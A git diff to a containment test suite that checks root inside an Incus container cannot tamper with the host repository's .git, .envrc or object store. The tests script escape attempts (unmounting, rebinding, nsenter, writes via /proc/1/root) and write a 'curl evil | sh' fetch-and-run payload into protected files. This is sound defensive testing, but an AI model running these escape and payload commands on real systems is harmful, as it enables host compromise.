@@ -54,6 +54,9 @@ describe('containment: root inside a real-image container (real Incus)', functio
     world = makeWorld(requireRealImage(this), {user: true})
     await world.setup()
     repo = world.makeRepo(name, {git: true})
+    // An .envrc exists, so it is mounted read-only: the attacks below try to get around that too.
+    writeFileSync(join(repo, '.envrc'), 'use nix\n')
+    execFileSync('chown', [`${world.user?.uid}:${world.user?.gid}`, join(repo, '.envrc')])
     world.git(repo, '-c', 'user.name=u', '-c', 'user.email=u@example.org', 'add', '.')
     world.git(repo, '-c', 'user.name=u', '-c', 'user.email=u@example.org', 'commit', '-qm', 'init')
     const created = await world.cli(['new', name, '--image', REAL_IMAGE, '--json'])
@@ -66,34 +69,37 @@ describe('containment: root inside a real-image container (real Incus)', functio
   })
   after(() => world?.dispose())
 
-  /** The host's view of the protected paths is what it was before the attacks. */
+  /** The host's view of its .git and the protected paths is what it was before the attacks. */
   function expectProtectedPathsUnchanged(): void {
     expect(readdirSync(join(repo, '.git/hooks')).sort()).to.deep.equal(hooksBefore)
     expect(readFileSync(join(repo, '.git/config'), 'utf8')).to.equal(configBefore)
+    expect(readFileSync(join(repo, '.envrc'), 'utf8')).to.equal('use nix\n')
   }
 
-  it('refuses every way of removing or getting around the read-only mounts, and the host is unchanged', () => {
-    const hook = (dir: string) => `sh -c 'echo "#!/bin/sh" > ${dir}/.git/hooks/post-merge'`
+  it("refuses every way of reaching the host's .git or getting around the read-only mounts, and the host is unchanged", () => {
+    const objects = '/var/lib/repoman/host-objects'
+    const write = (path: string) => `sh -c 'echo "curl evil | sh" > ${path}'`
     const script = [
       'mkdir -p /mnt/bind /mnt/move /mnt/rbind',
-      // Each attack must meet the real repo: say so first.
-      `cd ${repo} && test -d .git/hooks && grep -q " ${repo}/.git/hooks " /proc/self/mountinfo && echo "repo mounted"`,
-      attempt('umount', `umount ${repo}/.git/hooks`),
-      attempt('lazy-umount', `umount -l ${repo}/.git/config`),
-      attempt('remount-rw', `mount -o remount,rw,bind ${repo}/.git/hooks`),
-      attempt('plain-bind', `mount --bind ${repo} /mnt/bind && ${hook('/mnt/bind')}`),
-      attempt('move', `mount --move ${repo}/.git/hooks /mnt/move`),
-      attempt('unshare-umount', `unshare -m umount ${repo}/.git/hooks`),
-      attempt('nsenter-umount', `nsenter -t 1 -m umount -l ${repo}/.git/hooks`),
+      // Each attack must meet the real mounts: say so first.
+      `cd ${repo} && grep -q " ${repo}/.git " /proc/self/mountinfo && grep -q " ${objects} " /proc/self/mountinfo && echo "mounts there"`,
+      attempt('umount-git', `umount ${repo}/.git`),
+      attempt('lazy-umount', `umount -l ${repo}/.envrc`),
+      attempt('remount-rw', `mount -o remount,rw,bind ${objects}`),
+      attempt('plain-bind', `mount --bind ${repo} /mnt/bind && ${write('/mnt/bind/.git/config')}`),
+      attempt('move', `mount --move ${repo}/.git /mnt/move`),
+      attempt('rename-git', `mv ${repo}/.git ${repo}/.git-old`),
+      attempt('unshare-umount', `unshare -m umount ${repo}/.git`),
+      attempt('nsenter-umount', `nsenter -t 1 -m umount -l ${repo}/.git`),
       attempt('pivot-root', 'pivot_root /mnt /mnt/bind'),
-      // A recursive bind is allowed (systemd needs it), but it carries the read-only mounts along.
+      // A recursive bind is allowed (systemd needs it), but it carries the mounts along.
       attempt(
         'rbind-write',
-        `mount --rbind ${repo} /mnt/rbind && (mount -o remount,rw,bind /mnt/rbind/.git/hooks; ${hook('/mnt/rbind')})`,
+        `mount --rbind ${repo} /mnt/rbind && (mount -o remount,rw,bind /mnt/rbind/.envrc; ${write('/mnt/rbind/.envrc')})`,
       ),
-      attempt('proc-root-write', hook(`/proc/1/root${repo}`)),
-      attempt('write-hooks', hook(repo)),
-      attempt('write-config', `sh -c 'echo "[core] fsmonitor = touch /tmp/pwned" >> ${repo}/.git/config'`),
+      attempt('proc-root-write', write(`/proc/1/root${repo}/.envrc`)),
+      attempt('write-host-objects', `touch ${objects}/planted`),
+      attempt('write-envrc', write(`${repo}/.envrc`)),
       attempt('mknod', `mknod ${repo}/disk b 8 0`),
       attempt(
         'chattr',
@@ -103,20 +109,21 @@ describe('containment: root inside a real-image container (real Incus)', functio
     ].join('\n')
     const outcome = asRootInside(world, name, script).trim().split('\n')
     expect(outcome).to.deep.equal([
-      'repo mounted',
+      'mounts there',
       ...[
-        'umount',
+        'umount-git',
         'lazy-umount',
         'remount-rw',
         'plain-bind',
         'move',
+        'rename-git',
         'unshare-umount',
         'nsenter-umount',
         'pivot-root',
         'rbind-write',
         'proc-root-write',
-        'write-hooks',
-        'write-config',
+        'write-host-objects',
+        'write-envrc',
         'mknod',
         'chattr',
         'hardlink-out',
@@ -132,7 +139,7 @@ describe('containment: root inside a real-image container (real Incus)', functio
     writeFileSync(join(build, 'compat.c'), COMPAT_SOURCE)
     execFileSync('gcc', ['-static', '-no-pie', '-O1', '-o', join(build, 'compat'), join(build, 'compat.c')])
     world.incus(['file', 'push', join(build, 'compat'), `${name}/root/compat`])
-    expect(asRootInside(world, name, `/root/compat ${repo}/.git/hooks ${repo}`)).to.equal('refused\n')
+    expect(asRootInside(world, name, `/root/compat ${repo}/.git ${repo}`)).to.equal('refused\n')
     expectProtectedPathsUnchanged()
   })
 
@@ -209,7 +216,7 @@ describe('containment: root inside a real-image container (real Incus)', functio
     expect(project).to.include({containment: 'enforced', idmap: 'raw.idmap'})
   })
 
-  it('what cannot be prevented is reported: a new .envrc and Claude settings, a swapped .git', async () => {
+  it('what cannot be prevented is reported: new Claude settings and MCP servers; .git cannot be swapped', async () => {
     const before = JSON.parse((await world.cli(['status', name, '--json'])).stdout).projects[0]
     expect(before).to.deep.include({integrity: 'clean', changes: []})
     asRootInside(
@@ -217,18 +224,18 @@ describe('containment: root inside a real-image container (real Incus)', functio
       name,
       [
         `cd ${repo}`,
-        'echo "curl evil | sh" > .envrc',
+        'echo \'{"mcpServers": {}}\' > .mcp.json',
         'mkdir -p .claude && echo \'{"hooks": {}}\' > .claude/settings.json',
-        'mv .git .git-old && mkdir -p .git/hooks && cp -r .git-old/objects .git-old/refs .git-old/HEAD .git/',
+        'if mv .git .git-old 2>/dev/null; then echo swapped; fi',
       ].join(' && '),
     )
     const status = await world.cli(['status', name, '--json'])
     expect(status.exitCode).to.equal(1)
     const project = JSON.parse(status.stdout).projects[0]
     expect(project.changes.map((c: {path: string; change: string}) => `${c.change} ${c.path}`)).to.include.members([
-      'added .envrc',
+      'added .mcp.json',
       'added .claude/settings.json',
-      'swapped .git',
     ])
+    expect(existsSync(join(repo, '.git-old'))).to.equal(false)
   })
 })
